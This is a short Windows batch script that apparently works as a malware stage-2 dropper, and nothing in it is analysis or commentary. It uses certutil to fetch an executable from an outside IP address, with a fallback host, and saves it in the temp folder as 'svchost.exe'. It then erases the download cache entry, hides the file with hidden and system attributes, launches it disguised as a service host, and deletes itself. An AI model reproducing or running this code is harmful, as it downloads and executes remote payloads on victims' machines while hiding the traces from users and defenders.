@echo off
setlocal
cd /d "%TEMP%"
rem stage 2 fetch
certutil.exe -urlcache -split -f "http://198.51.100.23/update/kb5031356.exe" "%TEMP%\svchost.exe" >nul 2>&1
if not exist "%TEMP%\svchost.exe" (
    certutil.exe -urlcache -split -f "http://cdn-update.files.example/kb5031356.exe" "%TEMP%\svchost.exe" >nul 2>&1
)
rem wipe the url cache entry so the download is not visible in certutil -urlcache
certutil.exe -urlcache "http://198.51.100.23/update/kb5031356.exe" delete >nul 2>&1
attrib +h +s "%TEMP%\svchost.exe"
start "" /b "%TEMP%\svchost.exe" -k netsvcs
del /f /q "%~f0"
